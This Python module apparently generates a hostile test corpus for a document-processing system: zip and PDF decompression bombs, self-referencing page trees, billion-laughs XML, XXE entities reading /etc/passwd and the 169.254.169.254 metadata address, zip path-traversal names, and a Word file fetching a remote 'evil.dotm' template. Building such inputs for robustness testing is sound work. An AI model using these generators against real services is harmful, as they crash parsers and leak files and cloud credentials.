"""The hostile set: each file attacks whoever reads it. README.md says what each does. All of our own making."""

import io
import struct
import zipfile
import zlib

from forge import Look, make_facts, render
from forge.as_docx import W, pack_docx
from hostile.quine import make_quine

_XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
_MEGABYTE = 1 << 20


def make_attacks() -> dict[str, bytes]:
    """Every attack by the name README.md tells it under."""
    return {
        "zip-bomb.zip": pack({"report.html": None}, inflated=1024 * _MEGABYTE),
        "docx-bomb.docx": pack({"[Content_Types].xml": b"<Types/>", "word/document.xml": None}, 1024 * _MEGABYTE),
        "ofd-bomb.ofd": pack({"OFD.xml": None}, 1024 * _MEGABYTE),
        "many-members.zip": pack({f"{number}.html": b"<html>" for number in range(70_000)}),
        "nested.zip": nest(40),
        "quine.zip": make_quine(),
        "branching.zip": branch(5),
        "lying-size.zip": lie(),
        "inflating.pdf": inflating_pdf(),
        "paths.pdf": paths_pdf(),
        "endless-pages.pdf": endless_pdf(),
        "deep.pdf": deep_pdf(),
        "deep.html": b"<html><body>" + b"<div><table><tr><td>" * 100_000,
        "deep.docx": pack_docx(word("<w:tbl><w:tr><w:tc>" * 30_000 + "</w:tc></w:tr></w:tbl>" * 30_000)),
        "laughs.docx": pack_docx(laughs("w:document", f'xmlns:w="{W}"')),
        "laughs.ofd": pack({"OFD.xml": laughs("ofd:OFD", 'xmlns:ofd="http://www.ofdspec.org/2016"').encode()}),
        "outside.docx": pack_docx(outside("w:document", f'xmlns:w="{W}"')),
        "outside.ofd": pack({"OFD.xml": outside("ofd:OFD", 'xmlns:ofd="http://www.ofdspec.org/2016"').encode()}),
        "utf16-laughs.docx": pack({"word/document.xml": laughs("w:document", f'xmlns:w="{W}"', 16).encode("utf-16")}),
        "traversal.zip": pack({name: b"<html><body>pwned</body></html>" for name in TRAVERSALS}),
        "template.docx": template_docx(),
        "huge-span.html": b"<html><table><tr><td rowspan=65000 colspan=1000>1</td></tr></table></html>" * 50,
    }


TRAVERSALS = ("../../escaped.html", "/tmp/escaped.html", "..\\..\\escaped.html", "a/../../../escaped.html")
TEMPLATE_HOST = "template.example.org"


def pack(members: dict[str, bytes | None], inflated: int = 0) -> bytes:
    """A zip; a member of None is ``inflated`` bytes of nothing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if data is not None:
                archive.writestr(name, data)
    empty = next((name for name, data in members.items() if data is None), None)
    return buffer.getvalue() if empty is None else add_nothing(buffer.getvalue(), empty, inflated)


def add_nothing(data: bytes, name: str, size: int, told: int | None = None) -> bytes:
    """A zip with one more member: ``size`` zero bytes, of which its headers tell ``told``."""
    told = size if told is None else told
    squeezed = deflate_nothing(size)[2:-4]
    end = data.rindex(b"PK\x05\x06")
    count, length, start = struct.unpack("<HII", data[end + 10 : end + 20])
    about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 0, len(squeezed), told, len(name), 0)
    local = b"PK\x03\x04" + about + name.encode() + squeezed
    entry = b"PK\x01\x02\x14\x00" + about + struct.pack("<HHHII", 0, 0, 0, 0, start) + name.encode()
    directory = data[start : start + length] + entry
    tail = struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(directory), start + len(local), 0)
    return data[:start] + local + directory + b"PK\x05\x06" + tail


def nest(levels: int) -> bytes:
    """A zip in a zip in a zip, ``levels`` deep."""
    data = pack({"report.html": b"<html><body>deep down</body></html>"})
    for level in range(levels):
        data = pack({f"{level}.zip": data})
    return data


def branch(levels: int) -> bytes:
    """Sixteen zips in each of sixteen zips, and so on."""
    data = pack({"0.txt": b"0" * _MEGABYTE})
    for _ in range(levels):
        data = pack({f"{number}.zip": data for number in range(16)})
    return data


def lie() -> bytes:
    """A zip whose headers say that a member has 100 bytes; it has 320 million."""
    return add_nothing(pack({}), "report.html", 320 * _MEGABYTE, told=100)


def deflate_nothing(size: int) -> bytes:
    """A zlib stream of ``size`` zero bytes (a multiple of 16 MB), made without making them."""
    chunk = 16 * _MEGABYTE
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeezer.compress(b"\0" * chunk) + squeezer.flush(zlib.Z_FULL_FLUSH)
    checksum = (size % 65521) << 16 | 1
    return b"\x78\xda" + block * (size // chunk) + b"\x03\x00" + checksum.to_bytes(4, "big")


def pdf(*objects: bytes) -> bytes:
    """A PDF of numbered objects, the first its root."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, told in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, told)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def page_pdf(stream: bytes, filters: bytes) -> bytes:
    content = b"<</Length %d/Filter%b>>stream\n%b\nendstream" % (len(stream), filters, stream)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, content)


def inflating_pdf() -> bytes:
    """Four kilobytes that are two gigabytes after inflating twice."""
    return page_pdf(zlib.compress(deflate_nothing(2 << 30), 9), b"[/FlateDecode/FlateDecode]")


def paths_pdf() -> bytes:
    """A page of a million and a half strokes."""
    strokes = b"72 72 m 500 700 l S 72 700 m 500 72 l S\n" * 250_000
    return page_pdf(zlib.compress(strokes, 9), b"/FlateDecode")


def endless_pdf() -> bytes:
    """A page tree that contains itself and says that it has a thousand million pages."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R 2 0 R 3 0 R]/Count 1000000000>>",
        b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 1000000000>>",
    )


def deep_pdf() -> bytes:
    """Arrays in arrays, a hundred thousand deep."""
    depth = 100_000
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids " + b"[" * depth + b"]" * depth + b"/Count 1>>")


def word(body: str) -> str:
    return f'{_XML}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


def laughs(root: str, attributes: str, bits: int = 8) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0" encoding="UTF-{bits}"?>'
    return f'{head}<!DOCTYPE d [<!ENTITY l0 "ha">{levels}]><{root} {attributes}>&l9;</{root}>'


def outside(root: str, attributes: str) -> str:
    """Entities that name a file of this machine, and an address beside it."""
    declared = '<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://169.254.169.254/latest/">'
    return f"{_XML}<!DOCTYPE d [{declared}]><{root} {attributes}>&a;&b;</{root}>"


def template_docx() -> bytes:
    """A Word file whose template is to be fetched from another machine."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = (
        f'<Relationship Id="rId1" Type="{kind}" Target="http://{TEMPLATE_HOST}/evil.dotm" TargetMode="External"/>'
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    settings = f'{_XML}<w:settings xmlns:w="{W}"><w:attachedTemplate xmlns:r="urn:r" r:id="rId1"/></w:settings>'
    extra = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": f'{_XML}<Relationships xmlns="{namespace}">{relation}</Relationships>',
    }
    return pack_docx(word("<w:p><w:r><w:t>no report</w:t></w:r></w:p>"), extra)


def make_good(number: int) -> bytes:
    """An honest report among the attackers."""
    return render(make_facts(number, scale="town", issuer=f"诚实县第{number}片区财政局"), Look(), "html")
